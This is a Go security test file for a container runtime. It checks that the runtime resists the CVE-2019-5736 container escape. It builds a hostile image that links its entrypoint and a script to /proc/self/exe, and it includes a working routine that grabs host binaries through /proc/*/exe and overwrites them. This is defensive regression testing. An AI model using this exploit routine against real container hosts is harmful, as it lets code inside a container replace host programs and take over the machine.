package escape

import (
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"golang.org/x/sys/unix"

	"monopod.dev/monopod/internal/image/ociarchive"
	"monopod.dev/monopod/test/harness"
)

// TestCVE2019_5736: the runtime's own program is overwritten from inside. The image's program is a link to /proc/self/exe, and a script
// that says so in its first line: who executes it executes the runtime again, inside. Meanwhile a process of the container looks for foreign
// programs in /proc/*/exe, keeps hold of each, and writes to it as soon as it can be written.
//
// The attacker would have won if a program of the host had other content afterwards; each start and each command would then be his.
func TestCVE2019_5736(t *testing.T) {
	const image = "localhost/escape/exe:1"
	hostile := hostileImage(t, image, ociarchive.Layer{
		{Path: "hook", Symlink: "/proc/self/exe"},
		{Path: "script", Data: []byte("#!/proc/self/exe\n"), Mode: 0o755},
	}, func(c *ocispec.ImageConfig) { c.Entrypoint = []string{"/hook"} })
	onEachEngine(t, []ociarchive.Image{hostile}, func(n *node) {
		programs := append(hostPrograms(n), runcBinary)
		before := map[string]string{}
		for _, path := range programs {
			before[path] = digestOf(n, path)
		}
		p := n.pod(nil)
		attacker := p.launch(able(of(image, command("/attack", "overwrite")), "SYS_PTRACE"))
		attacker.says("ready")
		for range rounds(30) {
			for _, program := range []string{"/hook", "/script"} {
				_, _ = attacker.tryExec(10, program) // refused, or a program that does not know what it is here
				p.try(of(image, command(program))).stop()
			}
			_, _ = attacker.tryExec(10, "/bin/true") // the ordinary way in
		}
		if out := attacker.printed(); strings.Contains(out, "wrote") {
			n.Errorf("the attacker has written to a program that is not the container's:\n%s", out)
		}
		for _, path := range programs {
			if now := digestOf(n, path); now != before[path] {
				n.Errorf("%s has another content now", path)
			}
		}
		if got := p.launch(shell(sleeper)).exec("echo", "fine"); got != "fine" {
			n.Errorf("a command afterwards printed %q", got)
		}
	})
}

func hostPrograms(n *node) []string {
	return []string{harness.Bin(n, "monopod"), harness.Bin(n, "monopod-executor")}
}

func digestOf(n *node, path string) string {
	n.Helper()
	raw, err := os.ReadFile(path)
	n.check(err)
	return fmt.Sprintf("%x", sha256.Sum256(raw))
}

// overwrite takes hold of every program in /proc that is not of the image, and writes to it when that can be done. It is told once for each
// that was written.
func overwrite([]string) error {
	own := map[string]bool{}
	for _, path := range []string{"/attack", "/bin/busybox"} {
		own[fileID(path)] = true
	}
	held := map[string]int{} // O_PATH descriptors, by file
	fmt.Println("ready")
	for {
		exes, err := filepath.Glob("/proc/[0-9]*/exe")
		if err != nil {
			return err
		}
		for _, exe := range exes {
			id := fileID(exe)
			if id == "" || own[id] {
				continue
			}
			if _, ok := held[id]; !ok {
				if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					held[id] = fd
				}
			}
		}
		for id, fd := range held {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // in use: the next time, perhaps
			}
			if _, err := unix.Write(w, []byte("#!/bin/sh\n")); err == nil {
				fmt.Println("wrote", id)
				own[id] = true
			}
			unix.Close(w)
		}
	}
}

// fileID is a file by its device and number; "" for one that is not there.
func fileID(path string) string {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return ""
	}
	return fmt.Sprintf("%d:%d", st.Dev, st.Ino)
}
